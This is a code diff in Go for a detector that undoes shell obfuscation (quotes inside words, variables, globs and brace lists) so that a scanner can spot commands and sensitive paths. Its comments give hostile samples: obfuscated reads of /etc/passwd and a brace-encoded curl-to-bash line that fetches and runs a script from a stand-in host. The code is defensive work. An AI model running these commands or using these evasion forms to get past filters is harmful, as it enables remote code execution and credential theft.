@@ -355,11 +355,12 @@ func leadingCommand(s string) bool {
 	return false
 }
 
-// shellResolve returns s as a shell would read it past three ways of
+// shellResolve returns s as a shell would read it past four ways of
 // hiding a command word from anything that reads the text: quotes inside a
 // word (`c'a't`, `/e"t"c/pa'ss'wd`), variables set earlier on the line
-// (`a=c;b=at;$a$b`) and globs that a well-known file matches
-// (`/???/??t` is /bin/cat, `/???/p??s??` /etc/passwd). It returns "" when
+// (`a=c;b=at;$a$b`), globs that a well-known file matches
+// (`/???/??t` is /bin/cat, `/???/p??s??` /etc/passwd) and brace lists
+// (`{cat,/etc/passwd}`). It returns "" when
 // none applies, which is nearly always. Like shellUnquote's copy, the
 // result feeds only the command and sensitive-path shapes.
 func shellResolve(s string) string {
@@ -379,10 +380,59 @@ func shellResolve(s string) string {
 			out, changed = r, true
 		}
 	}
+	if strings.IndexByte(out, '{') >= 0 && strings.IndexByte(out, ',') >= 0 {
+		if r, ok := expandCommandBraces(out); ok {
+			out, changed = r, true
+		}
+	}
 	if !changed {
 		return ""
 	}
 	return out
+}
+
+// expandCommandBraces spells out a brace list that is a whole command
+// line in bash, `{curl,-s,http://x/a.sh}|{bash,-i}`, which bash expands
+// into `curl -s http://x/a.sh|bash -i`: a command word first, then an
+// argument (a flag, a path, a URL). A list of other words, Graph API's
+// `{id,name}` or a JSON object, is left alone.
+func expandCommandBraces(s string) (string, bool) {
+	var b strings.Builder
+	last, changed := 0, false
+	for i := 0; i < len(s); i++ {
+		if s[i] != '{' || i > 0 && s[i-1] == '$' {
+			continue
+		}
+		end := strings.IndexByte(s[i+1:], '}')
+		if end < 0 {
+			break
+		}
+		items := strings.Split(s[i+1:i+1+end], ",")
+		if len(items) < 2 || keywords[strings.ToLower(items[0])]&gShell == 0 || !braceArgs(items[1:]) {
+			continue
+		}
+		b.WriteString(s[last:i])
+		b.WriteString(strings.Join(items, " "))
+		last, changed = i+2+end, true
+		i = last - 1
+	}
+	if !changed {
+		return "", false
+	}
+	b.WriteString(s[last:])
+	return b.String(), true
+}
+
+// braceArgs: items without gaps or quotes, one of which is an argument.
+func braceArgs(items []string) bool {
+	arg := false
+	for _, it := range items {
+		if it == "" || strings.ContainsAny(it, " \t\n\"'{") {
+			return false
+		}
+		arg = arg || it[0] == '-' || it[0] == '/' || strings.Contains(it, "://")
+	}
+	return arg
 }
 
 func pathWordByte(c byte) bool {
